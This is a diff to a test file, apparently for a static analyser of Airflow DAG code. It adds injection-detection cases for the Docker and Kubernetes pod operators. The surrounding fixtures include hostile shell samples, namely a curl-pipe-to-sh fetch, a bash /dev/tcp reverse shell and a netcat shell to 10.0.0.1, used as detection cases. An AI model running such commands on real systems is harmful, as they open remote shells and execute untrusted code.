@@ -50,6 +50,16 @@ test.each([
     "from airflow.operators.bash import BashOperator\ndef f(t):\n    BashOperator(task_id='x', bash_command=f'load {t}')",
     "warning",
   ],
+  [
+    "EXEC008",
+    "from airflow.providers.docker.operators.docker import DockerOperator\ndef f(t):\n    DockerOperator(task_id='x', entrypoint=['bash', '-c', f'load {t}'])",
+    "warning",
+  ],
+  [
+    "EXEC008",
+    "from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\ndef f(t):\n    KubernetesPodOperator(task_id='x', cmds=['/bin/sh', '-ec'], arguments=[f'load {t}'])",
+    "warning",
+  ],
   ["EXEC009", bash("curl https://example.com/x | sh"), "error"],
   ["EXEC009", bash("bash -i >& /dev/tcp/10.0.0.1/80 0>&1"), "error"],
   ["EXEC009", bash("nc -e /bin/sh 10.0.0.1 80"), "error"],
@@ -89,6 +99,14 @@ test.each([
   [
     "EXEC008",
     "from airflow.operators.bash import BashOperator\nT = 'a'\nBashOperator(task_id='x', bash_command=f'load {T}')",
+  ],
+  [
+    "EXEC008",
+    "from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\ndef f(t):\n    KubernetesPodOperator(task_id='x', cmds=['load'], arguments=['--table', t])",
+  ],
+  [
+    "EXEC008",
+    "from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\nKubernetesPodOperator(task_id='x', cmds=['sh', '-c'], arguments=['load orders'])",
   ],
   ["EXEC009", bash("echo hi | grep h")],
   ["EXEC009", bash("curl https://example.com/x -o x")],
